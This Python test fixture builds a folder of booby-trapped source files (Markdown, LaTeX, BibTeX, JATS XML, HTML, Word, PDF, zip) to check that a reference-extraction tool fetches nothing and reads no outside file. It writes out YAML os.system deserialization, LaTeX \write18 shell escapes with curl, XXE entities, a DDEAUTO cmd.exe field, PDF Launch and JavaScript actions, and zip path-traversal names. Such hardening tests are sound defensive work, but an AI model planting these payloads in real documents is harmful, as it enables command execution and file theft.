"""A folder of sources that are full of links: to a server that listens, and to a secret file.

Every format has its own way to name what is to be loaded with it. None of it may be.
"""

import io
import zipfile
from pathlib import Path

from tests.pdf_files import pdf, text
from tests.word_files import paragraph

#: What the secret file holds: a reference that would be found if it were read.
SECRET = "Canarova Q. Forbidden reading behind a link. Hidden Press, 1987."
_LIST = (
    "1. Lake A. B. On rivers // River studies. 2001. No. 3. P. 5-9.",
    "2. Heron C. Dams and weirs. Moscow: Water Press, 1999. 210 p.",
    "3. Okafor D. E. Floods. Journal of Water, 12(3), 45-67, 2010.",
)


def write_sources(folder: Path, outside: Path, address: str) -> None:
    """Write the sources, and the secret outside of them; ``address`` is that of the server."""
    outside.mkdir()
    (outside / "secret.txt").write_text(f"References\n\n1. {SECRET}\n", encoding="utf-8")
    (outside / "secret.bib").write_text(
        "@book{canary, title={Forbidden reading}, author={Canarova, Q.}, year=1987}\n"
    )
    (outside / "secret.dtd").write_text(f'<!ENTITY leaked "{SECRET}">')
    folder.mkdir()
    secret = outside / "secret.txt"
    for name, content in _texts(address, secret, outside / "secret").items():
        (folder / name).write_text(content, encoding="utf-8")
    (folder / "paper.docx").write_bytes(_docx(address, secret))
    (folder / "paper.pdf").write_bytes(_pdf(address))
    (folder / "papers.zip").write_bytes(_archive(secret))


def _texts(url: str, secret: Path, stem: Path) -> dict[str, str]:
    file = secret.as_uri()
    listed = "\n".join(_LIST)
    return {
        "paper.txt": f"See {url}/txt and {file}.\n\nReferences\n\n{listed}\n4. {url}/list.html\n",
        "notes.md": (
            "---\ntitle: !!python/object/apply:os.system ['touch owned']\n"
            f"bibliography: [{url}/md.bib, {stem}.bib, ../outside/secret.bib]\n"
            f"csl: {url}/x.csl\n---\n\n![x]({url}/md.png) [@canary]\n<img src='{url}/md2.png'>\n\n"
            f"# References\n\n{listed}\n"
        ),
        "paper.tex": (
            "\\documentclass{article}\n\\usepackage[" + url + "]{hyperref}\n\\begin{document}\n"
            f"\\input{{{secret}}}\\include{{../outside/secret}}\\input{{|touch owned}}\n"
            f"\\write18{{touch owned}}\\immediate\\write18{{curl {url}/tex}}\n"
            f"\\includegraphics{{{url}/tex.png}}\\openin5={secret}\n"
            f"\\bibliography{{{stem},../outside/secret,{url}/tex.bib}}\\cite{{canary}}\n"
            "\\end{document}\n"
        ),
        "library.bib": (
            f'@preamble{{"\\input{{{secret}}}\\write18{{touch owned}}"}}\n'
            f"@string{{far = {{{url}/string}}}}\n"
            f"@article{{lake, title={{On rivers}}, author={{Lake, A.}}, year=2001,\n"
            f"  url={{{url}/bib}}, file={{:{secret}:PDF;:{url}/bib.pdf:PDF}},\n"
            f"  crossref={{{stem}}}, pdf={{{secret}}}}}\n"
            f"@include{{{secret}}}\n"
        ),
        "library.ris": (
            f"TY  - JOUR\nTI  - On rivers\nAU  - Lake, A.\nPY  - 2001\nUR  - {url}/ris\n"
            f"L1  - {file}\nL2  - {url}/ris.pdf\nER  - \n"
        ),
        "library.json": (
            f'[{{"id": "a", "type": "book", "title": "On rivers", "URL": "{url}/csl",'
            f' "$ref": "{url}/ref", "$schema": "{url}/schema", "author": [{{"family": "Lake"}}]}}]'
        ),
        "records.csv": f"title,author,year,url,file\nOn rivers,Lake A.,2001,{url}/csv,{secret}\n",
        **_markup(url, secret, stem),
    }


def _markup(url: str, secret: Path, stem: Path) -> dict[str, str]:
    file = secret.as_uri()
    doctype = (
        f'<!DOCTYPE article PUBLIC "-//NLM//DTD JATS//EN" "{url}/jats.dtd" [\n'
        f'<!ENTITY % far SYSTEM "{url}/far.dtd"> %far;\n'
        f'<!ENTITY % near SYSTEM "{stem.with_suffix(".dtd").as_uri()}"> %near;\n'
        f'<!ENTITY secret SYSTEM "{file}">\n<!ENTITY web SYSTEM "{url}/entity">]>\n'
    )
    refs = "".join(
        f'<ref id="r{number}"><mixed-citation>{one}</mixed-citation></ref>'
        for number, one in enumerate(_LIST)
    )
    spaces = (
        'xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:noNamespaceSchemaLocation="{url}/schema.xsd"'
    )
    include = f'<xi:include href="{file}" parse="text"/><xi:include href="{url}/include"/>'
    page = (
        f'<!DOCTYPE html SYSTEM "{url}/html.dtd"><html><head><base href="{url}/">'
        f'<meta http-equiv="refresh" content="0;url={url}/refresh"><title>Rivers</title>'
        f'<link rel="stylesheet" href="{url}/x.css"><script src="{url}/x.js"></script></head>'
        f'<body><img src="{url}/x.png" srcset="{url}/y.png 2x"><iframe src="{file}"></iframe>'
        f'<object data="{file}"></object><h2>References</h2><ol>'
        f'{"".join(f"<li>{one}</li>" for one in _LIST)}</ol></body></html>'
    )
    graph = (
        f'<?xml version="1.0"?>\n<!DOCTYPE graphml SYSTEM "{url}/graphml.dtd">\n'
        '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="undirected">'
        '<node id="a"/><node id="b"/><edge source="a" target="b"/></graph></graphml>'
    )
    return {
        "article.xml": (
            f'<?xml version="1.0"?>\n<?xml-stylesheet href="{url}/x.xsl"?>\n{doctype}'
            f"<article {spaces}><front><article-meta><title-group><article-title>Rivers &secret;"
            f"&web;&leaked;</article-title></title-group></article-meta></front><body><p>{include}"
            f'<graphic xlink:href="{url}/g.png"/></p></body><back><ref-list>{refs}</ref-list>'
            "</back></article>"
        ),
        "text.tei": (
            f'<?xml version="1.0"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0" {spaces}>'
            f"<text><body>{include}<p>On rivers.</p><listBibl>"
            f'{"".join(f"<bibl>{one}</bibl>" for one in _LIST)}</listBibl></body></text></TEI>'
        ),
        "page.html": page,
        "network.graphml": graph,
    }


_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _docx(url: str, secret: Path) -> bytes:
    """A Word document whose template, pictures, parts and fields lie elsewhere."""
    kinds = {
        "attachedTemplate": f"{url}/template.dotm",
        "image": f"{url}/image.png",
        "aFChunk": f"{url}/chunk.html",
        "subDocument": secret.as_uri(),
        "oleObject": f"{url}/object.bin",
        "hyperlink": f"{url}/link",
        "footnotes": "../../../../outside/secret.txt",
        "styles": secret.as_uri(),
        "numbering": f"{url}/numbering.xml",
    }
    related = "".join(
        f'<Relationship Id="r{number}" Type="{_RELATIONS}/{kind}" Target="{target}"'
        f'{"" if target.startswith("..") else " TargetMode=" + chr(34) + "External" + chr(34)}/>'
        for number, (kind, target) in enumerate(kinds.items())
    )
    fields = (
        f'<w:r><w:instrText>INCLUDETEXT "{secret}"</w:instrText></w:r>'
        f'<w:r><w:instrText>INCLUDEPICTURE "{url}/picture"</w:instrText></w:r>'
        '<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    )
    body = paragraph(f"<w:r><w:t>Rivers</w:t></w:r>{fields}") + "".join(
        map(paragraph, ("References", *_LIST))
    )
    main = (
        '<?xml version="1.0"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{_RELATIONS}"><w:body>{body}<w:altChunk r:id="r2"/></w:body></w:document>'
    )
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", main)
        links = f"<Relationships>{related}</Relationships>"
        archive.writestr("word/_rels/document.xml.rels", links)
        archive.writestr("word/settings.xml", main.replace("w:document", "w:settings"))
        archive.writestr("../../outside/planted.txt", "planted")
    return made.getvalue()


def _pdf(url: str) -> bytes:
    """A PDF with links, opened by actions that lead out."""
    data = pdf([text(20, 20, "Rivers", "", "References", *_LIST)])
    actions = (
        f"/OpenAction << /S /URI /URI ({url}/open) >> "
        "/AA << /WC << /S /Launch /F (touch owned) >> >> /Names << /JavaScript << /Names "
        f"[(x) << /S /JavaScript /JS (app.launchURL\\('{url}/js'\\)) >>] >> >> "
    )
    return data.replace(b"/Type /Catalog", b"/Type /Catalog " + actions.encode(), 1)


def _archive(secret: Path) -> bytes:
    """An archive with names that lead out of it, and links to the secret."""
    made = io.BytesIO()
    listed = "References\n\n" + "\n".join(_LIST) + "\n"
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(made, "w") as archive:
        for name in (
            "../outside/planted.txt", "/tmp/planted.txt", "..\\..\\planted.txt", "C:\\planted.txt",
            "a/../../../planted.txt", "CON.txt", "NUL", "-rf.txt", "x" * 300 + ".txt", "a\nb.txt",
            "\u202etxt.exe.txt",
        ):  # fmt: skip
            archive.writestr(name, listed)
        archive.writestr(link, str(secret))
    return made.getvalue()
